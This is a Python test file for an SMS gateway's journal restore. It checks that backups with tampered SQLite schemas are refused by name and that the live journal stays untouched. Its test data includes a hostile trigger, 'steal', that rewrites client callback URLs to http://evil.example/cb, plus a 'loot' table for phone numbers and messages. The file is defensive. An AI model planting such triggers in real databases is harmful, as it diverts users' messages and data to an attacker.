"""``restore`` refuses a copy whose schema is not exactly the one its version has: a trigger (which
would run inside the gateway's own writes), a view, a table or an index added, an index missing, a
table changed — each refused naming the object, the journal untouched. A genuine backup, and a journal
from before the migration files, restore. The expected schema is the shipped migrations' (applied to
an in-memory database), so these checks hold as migrations are added."""

from __future__ import annotations

import asyncio
import sqlite3
import subprocess
from pathlib import Path

import pytest
from gateway_harness import clean_env, mogateway_command

from mogateway.core.clients import ClientRecord
from mogateway.edges.journal_backup import BackupError, backup, restore
from mogateway.edges.journal_schema import schema_at
from mogateway.edges.storage import migrations
from mogateway.edges.storage.sqlite import SqliteJournal

FIXTURES = Path(__file__).parents[1] / "journal" / "fixtures"

TAMPERED = {
    # what is added or changed -> what the refusal must name
    "CREATE TABLE loot (msisdn text, message text)": "table loot is not part of schema version",
    "CREATE TRIGGER steal AFTER INSERT ON messages BEGIN "
    "UPDATE clients SET doc = json_set(doc, '$.callback_url', 'http://evil.example/cb'); END": (
        "trigger steal on messages is not part of schema version"
    ),
    "CREATE VIEW everyone AS SELECT msisdn, message FROM messages": "view everyone is not part of",
    "CREATE INDEX by_text ON messages (message)": "index by_text on messages is not part of",
    "DROP INDEX messages_shortcode": "index messages_shortcode of schema version",
    "ALTER TABLE clients ADD COLUMN note text": "table clients differs from schema version",
}


def _journal_with_a_client(path: Path) -> None:
    async def make() -> None:
        journal = SqliteJournal(str(path))
        await journal.open()
        try:
            await journal.put_client(
                ClientRecord(
                    id="cl_1",
                    name="One",
                    shortcodes=("56767",),
                    keywords=(),
                    callback_url="http://127.0.0.1:9/cb",
                    token="tok-0123456789abcdef",
                )
            )
        finally:
            await journal.close()

    asyncio.run(make())


@pytest.fixture
def genuine(tmp_path: Path) -> Path:
    live = tmp_path / "live.db"
    _journal_with_a_client(live)
    copy = tmp_path / "genuine.db"
    backup(str(live), str(copy))
    return copy


@pytest.mark.parametrize("change", list(TAMPERED))
def test_a_copy_with_a_schema_object_more_less_or_changed_is_refused_naming_it(
    tmp_path: Path, genuine: Path, change: str
) -> None:
    journal = tmp_path / "mogateway.db"
    _journal_with_a_client(journal)
    before = journal.read_bytes()
    tampered = tmp_path / "tampered.db"
    tampered.write_bytes(genuine.read_bytes())
    with sqlite3.connect(tampered) as conn:
        conn.execute(change)
    with pytest.raises(BackupError, match="its schema is not a mogateway journal's") as refused:
        restore(str(tampered), str(journal))
    assert TAMPERED[change] in str(refused.value)
    assert journal.read_bytes() == before  # nothing was changed
    assert not list(tmp_path.glob("mogateway.db.before-restore-*"))


def test_the_cli_says_which_object_and_changes_nothing(tmp_path: Path, genuine: Path) -> None:
    with sqlite3.connect(genuine) as conn:
        conn.execute("CREATE TRIGGER copy_out AFTER INSERT ON messages BEGIN SELECT 1; END")
    done = subprocess.run(
        [*mogateway_command(), "restore", str(genuine), "--database", str(tmp_path / "mogateway.db")],
        env=clean_env(),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "trigger copy_out on messages is not part of schema version" in done.stderr
    assert "nothing was changed" in done.stderr
    assert not (tmp_path / "mogateway.db").exists()


def test_a_genuine_backup_and_a_journal_from_before_the_migration_files_restore(
    tmp_path: Path, genuine: Path
) -> None:
    placed, _ = restore(str(genuine), str(tmp_path / "mogateway.db"))
    assert placed.schema_version == migrations.LATEST
    with sqlite3.connect(tmp_path / "mogateway.db") as conn:
        assert conn.execute("SELECT id FROM clients").fetchall() == [("cl_1",)]

    old = tmp_path / "old.db"
    with sqlite3.connect(old) as conn:
        conn.executescript((FIXTURES / "journal_a7c9be2.sql").read_text(encoding="utf-8"))
    placed, kept = restore(str(old), str(tmp_path / "mogateway.db"))
    assert kept is not None and placed.messages > 0


def test_every_known_version_has_a_schema_from_the_migrations() -> None:
    # The newest version's schema is what a new journal is; the oldest is what migration 1 makes.
    latest = schema_at(migrations.LATEST)
    assert ("table", "messages", "messages") in {obj[:3] for obj in latest}
    assert not {obj for obj in latest if obj[0] in ("trigger", "view")}
    assert len(schema_at(1)) < len(latest)
